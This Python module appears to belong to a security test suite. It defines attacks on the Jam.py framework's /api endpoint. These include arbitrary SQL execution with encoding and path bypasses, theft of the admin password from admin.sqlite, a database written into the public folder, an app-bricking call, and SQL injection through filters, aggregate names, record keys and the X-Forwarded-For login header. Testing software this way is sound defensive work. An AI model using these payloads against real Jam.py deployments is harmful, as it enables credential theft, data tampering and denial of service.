"""Calls of `/api` that do what no page of the application does."""

import json
from collections.abc import Iterable, Mapping
from typing import Any, Final

from support.servers import Reply

from .attack import (
    BOTH,
    JSON,
    MARK,
    TEXT,
    URLENCODED,
    Attack,
    Project,
    Site,
    Spelling,
    a_changed_row,
    body_has,
    call,
    get,
    post,
    steps,
)

#: each table of the database, in the words that made it
SCHEMA: Final = (b"CREATE TABLE", b"create table")


#: in place of the client's address, as a proxy passes it on
ADDRESSES: Final = {
    "a where": "x' where 1 --",
    "blanks": "  x'  where  1  --",
    "a line's end": "x' where 1 --\t",
    "after a proxy": "198.51.100.7, x' where 1 --",
    "a subquery": "'||(select F_SECRET_KEY from SYS_PARAMS)||'x' where 1 --",
}


def rows(project: Project) -> list[Attack]:
    return [*server_calls(project), *injections(project)]


def server_calls(project: Project) -> list[Attack]:
    def server(name: str, params: list[object], item: int = 0) -> Spelling:
        return post(call("server", item, [name, params], project.task), "{clerk}")

    change = f"UPDATE {project.table} SET NAME='{MARK}'"
    run = call("server", 0, ["execute_query", [change]], project.task)
    steal = [
        "ATTACH DATABASE 'admin.sqlite' AS a",
        f"UPDATE {project.table} SET NAME=(SELECT F_PASSWORD FROM a.SYS_USERS WHERE F_ADMIN=1)",
    ]
    publish = [f"ATTACH DATABASE 'static/{MARK}.db' AS a", "CREATE TABLE a.X AS SELECT 1"]
    chunked = {**JSON, "Transfer-Encoding": "chunked"}
    return [
        Attack(
            id="any-sql",
            wants="to run any SQL, by the name of a method of Jam.py's own",
            who="user",
            spellings={
                "plain": post(run, "{clerk}"),
                "a list of statements": server("execute_query", [[change]]),
                "on the task by its number": server("execute_query", [change], project.task),
                "an escaped letter": post(run.replace(b"execute", b"\\u0065xecute"), "{clerk}"),
                "as text/plain": post(run, "{clerk}", headers=TEXT),
                "as a form": post(run, "{clerk}", headers=URLENCODED),
                "in chunks": post(
                    b"%x;name=value\r\n%s\r\n0\r\n\r\n" % (len(run), run),
                    "{clerk}",
                    headers=chunked,
                ),
                "/api/": post(run, "{clerk}", "/api/"),
                "/api/x": post(run, "{clerk}", "/api/x"),
                "/%61pi": post(run, "{clerk}", "/%61pi"),
                "//api": post(run, "{clerk}", "//api"),
                "a null task": post(
                    call("server", 0, ["execute_query", [change]], 1).replace(
                        b'"server", 1', b'"server", null'
                    ),
                    "{clerk}",
                ),
                "a text task": post(
                    call("server", 0, ["execute_query", [change]], 1).replace(
                        b'"server", 1', b'"server", "0"'
                    ),
                    "{clerk}",
                ),
                "blanks around it": post(b" \n" + run + b"\t ", "{clerk}"),
            },
            got=a_changed_row,
            leaves="data",
        ),
        Attack(
            id="passwords-by-sql",
            wants="the administrator's password, out of Jam.py's own database",
            who="user",
            spellings={
                how: steps(ask, everything(project))
                for how, ask in ways(call("server", 0, ["execute_query", [steal]])).items()
            },
            got=lambda site, reply: site.project.admin.password in reply.text,
            leaves="data",
        ),
        Attack(
            id="database-to-download",
            wants="a new database in the public folder",
            who="user",
            spellings={
                how: steps(ask, get(f"/static/{MARK}.db"))
                for how, ask in ways(call("server", 0, ["execute_query", [publish]])).items()
            },
            got=body_has(b"SQLite format 3"),
            leaves="data",
        ),
        Attack(
            id="bricking",
            wants="the application to be of no use to anybody until it is started again",
            who="user",
            spellings={
                "an item": steps(
                    server("__init__", [None, "x", "x"], project.customers), everything(project)
                ),
                "an item, by an escaped letter": steps(
                    post(
                        call("server", project.customers, ["__init__", [None, "x", "x"]]).replace(
                            b"__init__", b"__in\\u0069t__"
                        ),
                        "{clerk}",
                    ),
                    everything(project),
                ),
                "an item, as text/plain": steps(
                    post(
                        call("server", project.customers, ["__init__", [None, "x", "x"]]),
                        "{clerk}",
                        headers=TEXT,
                    ),
                    everything(project),
                ),
                "an item, as a form": steps(
                    post(
                        call("server", project.customers, ["__init__", [None, "x", "x"]]),
                        "{clerk}",
                        headers=URLENCODED,
                    ),
                    everything(project),
                ),
                "the task": steps(server("__init__", ["a", "b"]), everything(project)),
            },
            got=lambda _, reply: b"Ada Lovelace" not in reply.body,
            leaves="ruins",
            jam=BOTH,
            not_v5=("the task",),
        ),
        Attack(
            id="functions-that-are-not-services",
            wants="to call functions that were never meant for the browser",
            who="user",
            spellings={
                "an imported one": server("tell", []),
                "an imported one with arguments": server("tell", [], project.task),
                "a handler of Jam.py's events": server("on_ext_request", ["x", "told"]),
                "a handler, on the task by its number": server(
                    "on_ext_request", ["", "told"], project.task
                ),
                "a private one": server("_told", []),
            },
            got=body_has(b"told by"),
            jam=BOTH,
        ),
    ]


def ways(body: bytes) -> dict[str, Spelling]:
    """Write a call in several ways."""
    return {
        "plain": post(body, "{clerk}"),
        "an escaped letter": post(body.replace(b"execute", b"\\u0065xecute"), "{clerk}"),
        "as text/plain": post(body, "{clerk}", headers=TEXT),
        "as a form": post(body, "{clerk}", headers=URLENCODED),
        "/api/x": post(body, "{clerk}", "/api/x"),
    }


def everything(project: Project, options: Mapping[str, object] = {}) -> Spelling:
    """Open all customers, as their page does."""
    return post(opened(project, options), "{clerk}")


def opened(project: Project, options: Mapping[str, object]) -> bytes:
    """Return the body of a call that opens the customers, with other options."""
    asked: dict[str, object] = {"__expanded": False, "__fields": ["id", "name"]}
    asked |= {"__filters": [], "__order": [], "__limit": 0, "__offset": 0}
    return call("open", project.customers, {**asked, **options}, project.task)


def injections(project: Project) -> list[Attack]:
    def filtered(*filters: object, **more: object) -> Spelling:
        return everything(project, {"__filters": list(filters), **more})

    union = "0) UNION SELECT 1, sql FROM sqlite_master--"

    def changed(
        record: list[Any], status: int, fields: Iterable[str] = ("id", "name"), **details: object
    ) -> Spelling:
        log = {"log_index": 0, "record_status": status, "record": record, "details": details}
        changes = {"fields": list(fields), "expanded": False, "logs": [log]}
        return post(call("apply", project.customers, [changes, {}], project.task), "{clerk}")

    return [
        Attack(
            id="sql-in-a-list",
            wants="the whole schema, by a list of values in a filter",
            who="user",
            spellings={
                "IN": filtered(["id", 7, [union]]),
                "NOT IN": filtered(["id", 8, [union]]),
                "IN, as the lookup has it": filtered(["id", 22, [union]]),
                "NOT IN, as the lookup has it": filtered(["id", 23, [union]]),
                "after a number": filtered(["id", 7, [1, union]]),
                "cut in two": filtered(
                    ["id", 7, ["0) UNION SELECT 1", "sql FROM sqlite_master--"]]
                ),
                "a subquery and a comment": filtered(
                    [
                        "id",
                        7,
                        ["0) UNION/**/SELECT 1,(SELECT group_concat(sql) FROM sqlite_master)--"],
                    ]
                ),
                "a line break": filtered(
                    ["id", 7, ["0)\nUNION\nSELECT 1,\tsql\nFROM sqlite_master--"]]
                ),
                "a text field": filtered(
                    ["name", 7, ["'') UNION SELECT 1, sql FROM sqlite_master--"]]
                ),
                "an OR": filtered([["id", 7, [f"0){union[1:]}"]]]),
                "an OR of two": filtered([["id", 7, [f"0){union[1:]}"]], ["id", 7, [1]]]),
                "an OR in an OR": filtered([[["id", 7, [f"0)){union[1:]}"]]]]),
                "a filter given twice": post(
                    opened(project, {"__filters": []}).replace(
                        b'"__filters": []',
                        b'"__filters": [], "__filters": '
                        + json.dumps([["id", 7, [union]]]).encode(),
                    ),
                    "{clerk}",
                ),
                "an object": filtered(["id", 7, {union: 1}]),
            },
            got=body_has(*SCHEMA),
        ),
        Attack(
            id="sql-in-a-function",
            wants="the whole schema, by the name of an aggregate function",
            who="user",
            spellings={
                name: everything(project, {"__funcs": {"name": name}, "__fields": ["name"]})
                for name in (
                    "(select group_concat(sql) from sqlite_master)||max",
                    "(SELECT sql FROM sqlite_master LIMIT 1)||min",
                    "count(*),(select group_concat(sql) from sqlite_master)||max",
                    "\t(select group_concat(sql) from sqlite_master)||\nmax",
                    "(select group_concat(sql) from sqlite_ma\u017fter)||max",
                )
            },
            got=body_has(*SCHEMA),
        ),
        Attack(
            id="sql-in-a-key",
            wants="to change or delete every row, by the key of one",
            who="user",
            spellings={
                "update": changed(["1 or 1=1", MARK], 2),
                "update, with a comment": changed(["1/**/or/**/1=1--", MARK], 2),
                "update, fields in another order": changed([MARK, "1 or 1=1"], 2, ["name", "id"]),
                "update, a subquery": changed(
                    [f"(select max(id) from {project.table}) or id>0", MARK], 2
                ),
                "update, fields twice": changed(["1", MARK, "1 or 1=1"], 2, ["id", "name", "id"]),
                "update, text that looks like a number": changed(["1e0 or 1e0", MARK], 2),
                "delete": changed(["1 or 1=1", "x"], 3),
                "delete, with a comment": changed(["1 or 1=1--", "x"], 3),
            },
            got=changed_all,
            leaves="data",
        ),
        Attack(
            id="sql-at-the-login",
            wants="to write what one likes into the list of users, by a header of a proxy",
            who="user",
            spellings={name: login_from(address) for name, address in ADDRESSES.items()},
            only=dict.fromkeys(ADDRESSES, "gunicorn"),  # waitress drops such headers itself
            got=every_address,
            leaves="data",
            jam=BOTH,
        ),
    ]


def changed_all(site: Site, _: Reply) -> bool:
    """Say whether more rows than the one that was named were changed or deleted."""
    return bool(
        site.value(
            f"SELECT COUNT(*) > 1 FROM {site.project.table} WHERE NAME = '{MARK}' OR DELETED = 1"
        )
        or site.value(f"SELECT COUNT(*) < 2 FROM {site.project.table}")
    )


def login_from(address: str) -> Spelling:
    def send(site: Site) -> Reply:
        site.change("UPDATE SYS_USERS SET F_IP = NULL")
        return site.try_login(site.project.clerk, {"X-Forwarded-For": address})

    return send


def every_address(site: Site, _: Reply) -> bool:
    """Say whether users who did not log in have an address now."""
    return bool(
        site.value(
            "SELECT COUNT(*) FROM SYS_USERS WHERE F_ADMIN = 1 AND F_IP <> ''", "admin.sqlite"
        )
    )
